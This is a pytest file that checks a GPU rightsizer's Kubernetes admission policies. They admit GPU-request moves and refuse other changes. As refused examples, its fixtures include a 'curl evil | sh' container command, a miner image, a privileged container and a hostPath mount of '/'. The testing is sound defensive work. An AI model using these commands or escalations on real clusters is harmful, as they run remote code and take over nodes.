"""The rightsizer's ValidatingAdmissionPolicies, evaluated with a real CEL engine against example writes:
what `apply` itself writes is admitted, anything else the rightsizer's identity tries is refused."""

from __future__ import annotations

import copy
import os
import subprocess
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
import yaml

from rightsizer.apply import protocol
from rightsizer.apply import workloads as wl
from tests.deploy.test_cluster_manifests import one
from tests.deploy.test_helm import NAMESPACE, template
from tests.deploy.test_manifests import DEPLOY, OVERLAY, render
from tests.support.admission import Request, compile_all, refusals
from tests.support.kubedouble.patching import merge_patch
from tests.support.yamldocs import load_all

# Each test renders with kubectl kustomize or helm (subprocesses): make unit leaves them out.
pytestmark = pytest.mark.slow

RIGHTSIZER = "system:serviceaccount:gpupilot:gpupilot-rightsizer"


def policy(name: str) -> dict[str, Any]:
    return one(render(OVERLAY), "ValidatingAdmissionPolicy", name)


def deployment() -> dict[str, Any]:
    return {
        "apiVersion": "apps/v1",
        "kind": "Deployment",
        "metadata": {
            "name": "train",
            "namespace": "ml",
            "uid": "u1",
            "resourceVersion": "41",
            "generation": 3,
            "labels": {"app": "train"},
            "annotations": {"deployment.kubernetes.io/revision": "3"},
            "ownerReferences": [{"apiVersion": "x/v1", "kind": "Job", "name": "o", "uid": "u0"}],
        },
        "spec": {
            "replicas": 2,
            "selector": {"matchLabels": {"app": "train"}},
            "template": {
                "metadata": {"labels": {"app": "train"}},
                "spec": {
                    "serviceAccountName": "train",
                    "containers": [
                        {
                            "name": "main",
                            "image": "registry.example/train:1",
                            "command": ["python", "train.py"],
                            "resources": {
                                "limits": {"nvidia.com/mig-3g.40gb": "1", "memory": "8Gi"},
                                "requests": {"nvidia.com/mig-3g.40gb": "1", "cpu": "2"},
                            },
                        },
                        {"name": "sidecar", "image": "registry.example/log:1"},
                    ],
                },
            },
        },
        "status": {"replicas": 2},
    }


def server_side(obj: dict[str, Any]) -> dict[str, Any]:
    """What the API server adds before admission: a new generation and managed fields."""
    out = copy.deepcopy(obj)
    out["metadata"]["generation"] = obj["metadata"].get("generation", 1) + 1
    out["metadata"]["managedFields"] = [{"manager": "gpupilot-rightsizer", "operation": "Update"}]
    return out


def workload_refusals(old: dict[str, Any], new: dict[str, Any], user: str = RIGHTSIZER) -> list[str]:
    req = Request(username=user, group="apps", resource="deployments")
    return refusals(policy("gpupilot-rightsizer-workloads"), req, old, new)


def test_every_policy_compiles_in_every_rendering() -> None:
    rendered = [o for o in render(OVERLAY) if o["kind"] == "ValidatingAdmissionPolicy"]
    assert {p["metadata"]["name"] for p in rendered} == {
        "gpupilot-rightsizer-workloads",
        "gpupilot-rightsizer-clusterpolicy",
        "gpupilot-rightsizer-nodes",
    }
    for p in rendered:
        compile_all(p)


def test_apply_template_patch_and_its_rollback_are_admitted() -> None:
    old = deployment()
    moves = (("nvidia.com/mig-3g.40gb", "nvidia.com/mig-1g.10gb", 1),)
    patched = merge_patch(old, wl.template_patch(old, "Deployment", moves, plan_id="p-7"))
    new = server_side(patched)
    container = new["spec"]["template"]["spec"]["containers"][0]
    assert container["resources"]["limits"] == {"nvidia.com/mig-1g.10gb": "1", "memory": "8Gi"}
    assert workload_refusals(old, new) == []
    back = server_side(merge_patch(new, wl.template_patch(new, "Deployment", wl.reverse(moves), plan_id="")))
    assert "gpupilot.io/requests-changed-by" not in back["metadata"]["annotations"]
    assert workload_refusals(new, back) == []


def _containers(obj: dict[str, Any]) -> list[dict[str, Any]]:
    containers: list[dict[str, Any]] = obj["spec"]["template"]["spec"]["containers"]
    return containers


FORBIDDEN: dict[str, Callable[[dict[str, Any]], object]] = {
    "image": lambda o: _containers(o)[0].update(image="evil/miner:1"),
    "command": lambda o: _containers(o)[0].update(command=["sh", "-c", "curl evil | sh"]),
    "new container": lambda o: _containers(o).append({"name": "x", "image": "evil/x:1"}),
    "removed container": lambda o: _containers(o).pop(),
    "cpu request": lambda o: _containers(o)[0]["resources"]["requests"].update(cpu="64"),
    "privileged": lambda o: _containers(o)[0].update(securityContext={"privileged": True}),
    "service account": lambda o: o["spec"]["template"]["spec"].update(serviceAccountName="admin"),
    "host path": lambda o: o["spec"]["template"]["spec"].update(
        volumes=[{"name": "h", "hostPath": {"path": "/"}}]
    ),
    "init container": lambda o: o["spec"]["template"]["spec"].update(
        initContainers=[{"name": "i", "image": "evil/i:1"}]
    ),
    "pod label": lambda o: o["spec"]["template"]["metadata"]["labels"].update(app="other"),
    "replicas": lambda o: o["spec"].update(replicas=0),
    "workload label": lambda o: o["metadata"]["labels"].update(team="x"),
    "other annotation": lambda o: o["metadata"]["annotations"].update({"example.com/a": "b"}),
    "ownerReferences": lambda o: o["metadata"].pop("ownerReferences"),
    "finalizers": lambda o: o["metadata"].update(finalizers=["example.com/hold"]),
}


@pytest.mark.parametrize("change", sorted(FORBIDDEN))
def test_anything_but_gpu_requests_is_refused(change: str) -> None:
    old = deployment()
    new = copy.deepcopy(old)
    _containers(new)[0]["resources"]["limits"]["nvidia.com/mig-1g.10gb"] = "1"  # a legal part beside it
    FORBIDDEN[change](new)
    assert workload_refusals(old, server_side(new)), f"a {change} change was admitted"


def _limits(o: dict[str, Any]) -> dict[str, Any]:
    limits: dict[str, Any] = _containers(o)[0]["resources"]["limits"]
    return limits


def _requests(o: dict[str, Any]) -> dict[str, Any]:
    requests: dict[str, Any] = _containers(o)[0]["resources"]["requests"]
    return requests


def _move(o: dict[str, Any], old: str, new: str, value: str = "1") -> None:
    for part in (_limits(o), _requests(o)):
        part.pop(old)
        part[new] = value


ALLOWED_MOVES: dict[str, Callable[[dict[str, Any]], object]] = {
    "mig to mig": lambda o: _move(o, "nvidia.com/mig-3g.40gb", "nvidia.com/mig-1g.10gb"),
    "mig to a whole gpu": lambda o: _move(o, "nvidia.com/mig-3g.40gb", "nvidia.com/gpu"),
    "mig to a shared gpu": lambda o: _move(o, "nvidia.com/mig-3g.40gb", "nvidia.com/gpu.shared", "2"),
}
"""Moves between the GPU resources the rightsizer manages: admitted."""

OUTSIDE_THE_ALLOW_LIST: dict[str, Callable[[dict[str, Any]], object]] = {
    "hostdev added": lambda o: _limits(o).update({"nvidia.com/hostdev": "1"}),
    "rdma device added": lambda o: _requests(o).update({"nvidia.com/rdma_shared_device_a": "1"}),
    "moved to hostdev": lambda o: _move(o, "nvidia.com/mig-3g.40gb", "nvidia.com/hostdev"),
    "every gpu request removed": lambda o: [
        p.pop("nvidia.com/mig-3g.40gb") for p in (_limits(o), _requests(o))
    ],
    "gpu request set to 0": lambda o: _move(o, "nvidia.com/mig-3g.40gb", "nvidia.com/gpu", "0"),
    "gpu request of a fraction": lambda o: _move(o, "nvidia.com/mig-3g.40gb", "nvidia.com/gpu", "500m"),
    "an unmanaged renamed resource": lambda o: _move(o, "nvidia.com/mig-3g.40gb", "nvidia.com/a100"),
    "another vendor's gpu": lambda o: _move(o, "nvidia.com/mig-3g.40gb", "amd.com/gpu"),
}
"""What the issue found admitted (any nvidia.com/ key, the last GPU request removed) and its kin:
each refused by the allow-list of GPU resources."""


@pytest.mark.parametrize("change", sorted(ALLOWED_MOVES))
def test_a_request_may_move_between_managed_gpu_resources(change: str) -> None:
    old = deployment()
    new = copy.deepcopy(old)
    ALLOWED_MOVES[change](new)
    assert workload_refusals(old, server_side(new)) == []
    assert workload_refusals(server_side(new), old) == []  # and back (the rollback)


@pytest.mark.parametrize("change", sorted(OUTSIDE_THE_ALLOW_LIST))
def test_gpu_changes_outside_the_allow_list_are_refused(change: str) -> None:
    old = deployment()
    new = copy.deepcopy(old)
    OUTSIDE_THE_ALLOW_LIST[change](new)
    found = workload_refusals(old, server_side(new))
    assert found, f"{change} was admitted"


def test_a_workload_without_a_gpu_is_never_given_one() -> None:
    old = deployment()
    for part in (_limits(old), _requests(old)):
        part.pop("nvidia.com/mig-3g.40gb")
    new = copy.deepcopy(old)
    _limits(new)["nvidia.com/gpu"] = "1"
    assert any(
        "never remove its last one nor give one" in r for r in workload_refusals(old, server_side(new))
    )
    removed = deployment()
    for part in (_limits(removed), _requests(removed)):
        part.pop("nvidia.com/mig-3g.40gb")
    assert any(
        "never remove its last one" in r for r in workload_refusals(deployment(), server_side(removed))
    )


def test_the_charts_renamed_resources_join_the_allow_list() -> None:
    """exporter.resourceNames (the device plugin's renamed resources) may be moved to and from in the
    chart's rendering; without them, the same move is refused."""
    req = Request(
        username=f"system:serviceaccount:{NAMESPACE}:gpupilot-rightsizer",
        group="apps",
        resource="deployments",
    )
    old = deployment()
    new = copy.deepcopy(old)
    _move(new, "nvidia.com/mig-3g.40gb", "nvidia.com/a100")
    name = "gpupilot-rightsizer-workloads"
    plain = one(list(template("defaults")), "ValidatingAdmissionPolicy", name)
    renamed = one(
        list(template("defaults", "exporter.resourceNames={nvidia.com/a100}")),
        "ValidatingAdmissionPolicy",
        name,
    )
    assert refusals(plain, req, old, server_side(new))
    assert refusals(renamed, req, old, server_side(new)) == []
    hostdev = copy.deepcopy(old)
    _move(hostdev, "nvidia.com/mig-3g.40gb", "nvidia.com/hostdev")
    assert refusals(renamed, req, old, server_side(hostdev))


def test_only_the_rightsizer_is_bound() -> None:
    old = deployment()
    new = copy.deepcopy(old)
    _containers(new)[0]["image"] = "registry.example/train:2"
    assert workload_refusals(old, new, user="system:serviceaccount:ml:deployer") == []
    assert workload_refusals(old, new)


def node() -> dict[str, Any]:
    return {
        "apiVersion": "v1",
        "kind": "Node",
        "metadata": {
            "name": "gpu-1",
            "uid": "n1",
            "resourceVersion": "9",
            "labels": {"kubernetes.io/hostname": "gpu-1", "nvidia.com/mig.config": "all-1g.10gb"},
            "annotations": {"node.alpha.kubernetes.io/ttl": "0"},
        },
        "spec": {"providerID": "aws:///i-1", "taints": [{"key": "gpu", "effect": "NoSchedule"}]},
        "status": {"capacity": {"nvidia.com/gpu": "8"}},
    }


def node_refusals(old: dict[str, Any], new: dict[str, Any]) -> list[str]:
    req = Request(username=RIGHTSIZER, resource="nodes")
    return refusals(policy("gpupilot-rightsizer-nodes"), req, old, new)


def test_apply_node_patches_are_admitted() -> None:
    old = node()
    cordoned = merge_patch(
        old, protocol.cordon_patch(protocol.view(old), plan_id="p", target="all-3g.40gb", now="t")
    )
    assert cordoned["spec"]["unschedulable"] is True
    assert node_refusals(old, cordoned) == []
    relabeled = merge_patch(cordoned, protocol.relabel_patch(protocol.view(cordoned), target="all-3g.40gb"))
    assert node_refusals(cordoned, relabeled) == []
    rolled = merge_patch(relabeled, protocol.rollback_patch(protocol.view(relabeled), reason="x"))
    assert node_refusals(relabeled, rolled) == []


NODE_FORBIDDEN: dict[str, Callable[[dict[str, Any]], object]] = {
    "label outside the prefixes": lambda o: o["metadata"]["labels"].update(
        {"node-role.kubernetes.io/control-plane": ""}
    ),
    "label removed": lambda o: o["metadata"]["labels"].pop("kubernetes.io/hostname"),
    "other annotation": lambda o: o["metadata"]["annotations"].update({"example.com/a": "b"}),
    "taints": lambda o: o["spec"].pop("taints"),
    "providerID": lambda o: o["spec"].update(providerID="x"),
    "ownerReferences": lambda o: o["metadata"].update(
        ownerReferences=[{"apiVersion": "v1", "kind": "ConfigMap", "name": "c", "uid": "c1"}]
    ),
    "finalizers": lambda o: o["metadata"].update(finalizers=["example.com/hold"]),
}


@pytest.mark.parametrize("change", sorted(NODE_FORBIDDEN))
def test_node_changes_outside_the_allow_list_are_refused(change: str) -> None:
    old = node()
    new = copy.deepcopy(old)
    new["metadata"]["labels"]["nvidia.com/mig.config"] = "all-3g.40gb"
    NODE_FORBIDDEN[change](new)
    assert node_refusals(old, new), f"a node {change} change was admitted"


def cluster_policy() -> dict[str, Any]:
    return {
        "apiVersion": "nvidia.com/v1",
        "kind": "ClusterPolicy",
        "metadata": {"name": "cluster-policy", "uid": "c", "resourceVersion": "5", "generation": 2},
        "spec": {
            "driver": {"image": "driver", "version": "580"},
            "kataSandboxDevicePlugin": {"image": "kata-dp"},
            "psp": {"enabled": False},
            "migManager": {
                "enabled": True,
                "image": "k8s-mig-manager",
                "hostNetwork": False,
                "config": {"name": "custom-mig-config", "default": "all-disabled"},
            },
        },
        "status": {"state": "ready"},
    }


def cp_refusals(old: dict[str, Any], new: dict[str, Any]) -> list[str]:
    req = Request(username=RIGHTSIZER, group="nvidia.com", resource="clusterpolicies")
    return refusals(policy("gpupilot-rightsizer-clusterpolicy"), req, old, new)


def test_only_the_mig_managers_config_name_may_change() -> None:
    old = cluster_policy()
    renamed = server_side(
        merge_patch(old, {"spec": {"migManager": {"config": {"name": "gpupilot-mig-parted-config"}}}})
    )
    assert cp_refusals(old, renamed) == []
    for patch in (
        {"spec": {"kataSandboxDevicePlugin": {"image": "evil"}}},
        {"spec": {"psp": {"enabled": True}}},
        {"spec": {"migManager": {"hostNetwork": True}}},
        {"spec": {"migManager": {"config": {"default": "all-1g.10gb"}}}},
        {"spec": {"newSection": {"image": "evil"}}},
        {"metadata": {"labels": {"a": "b"}}},
    ):
        assert cp_refusals(old, merge_patch(renamed, patch)), f"{patch} was admitted"


def test_kustomize_takes_the_user_name_from_the_service_accounts_namespace(tmp_path: Path) -> None:
    text = (DEPLOY / "rightsizer" / "admission-policy.yaml").read_text()
    assert text.count("system:serviceaccount:gpupilot:gpupilot-rightsizer") == 3
    overlay = tmp_path / "elsewhere"
    overlay.mkdir()
    src = DEPLOY / "overlays" / "gpu-operator"
    for name in ("namespace-transformer.yaml", "cluster-scoped.yaml"):
        content = (src / name).read_text()
        (overlay / name).write_text(content.replace("namespace: gpupilot", "namespace: gpu-monitoring"))
    (overlay / "kustomization.yaml").write_text(
        yaml.safe_dump(
            {
                "resources": [os.path.relpath(DEPLOY / "rightsizer", overlay)],
                "transformers": ["namespace-transformer.yaml", "cluster-scoped.yaml"],
            }
        )
    )
    res = subprocess.run(["kubectl", "kustomize", str(overlay)], capture_output=True, text=True, check=False)
    assert res.returncode == 0, res.stderr
    objs = load_all(res.stdout)
    policies = [o for o in objs if o["kind"] == "ValidatingAdmissionPolicy"]
    assert len(policies) == 3
    for p in policies:
        (cond,) = p["spec"]["matchConditions"]
        assert cond["expression"] == (
            "request.userInfo.username == 'system:serviceaccount:gpu-monitoring:gpupilot-rightsizer'"
        )
        assert "namespace" not in p["metadata"]


@pytest.mark.slow
def test_chart_limits_workload_patches_to_listed_namespaces() -> None:
    """rightsizer.autoApply.namespaces: a Role per namespace instead of the ClusterRole's rule; the
    chart's policies name the release's service account and admit and refuse as kustomize's do."""
    everywhere = template("defaults", "rightsizer.autoApply.enabled=true")
    listed = template(
        "defaults", "rightsizer.autoApply.enabled=true", "rightsizer.autoApply.namespaces={ml,train}"
    )

    def workload_rules(objs: tuple[dict[str, Any], ...], kind: str) -> dict[str, list[str]]:
        return {
            o["metadata"].get("namespace", ""): r["verbs"]
            for o in objs
            if o["kind"] == kind and o["metadata"]["name"].startswith("gpupilot-rightsizer")
            for r in o["rules"]
            if "deployments" in r["resources"] and "patch" in r["verbs"]
        }

    assert workload_rules(everywhere, "ClusterRole") == {"": ["patch"]}
    assert not workload_rules(everywhere, "Role")
    assert not workload_rules(listed, "ClusterRole")
    assert workload_rules(listed, "Role") == {"ml": ["patch"], "train": ["patch"]}
    bound = {
        o["metadata"]["namespace"]
        for o in listed
        if o["kind"] == "RoleBinding" and o["metadata"]["name"] == "gpupilot-rightsizer-workloads"
    }
    assert bound == {"ml", "train"}
    chart_policy = one(
        list(template("defaults")), "ValidatingAdmissionPolicy", "gpupilot-rightsizer-workloads"
    )
    old = deployment()
    new = copy.deepcopy(old)
    _containers(new)[0]["image"] = "evil/miner:1"
    req = Request(
        username=f"system:serviceaccount:{NAMESPACE}:gpupilot-rightsizer",
        group="apps",
        resource="deployments",
    )
    assert refusals(chart_policy, req, old, new)
    moves = (("nvidia.com/mig-3g.40gb", "nvidia.com/mig-1g.10gb", 1),)
    assert (
        refusals(
            chart_policy, req, old, merge_patch(old, wl.template_patch(old, "Deployment", moves, plan_id="p"))
        )
        == []
    )
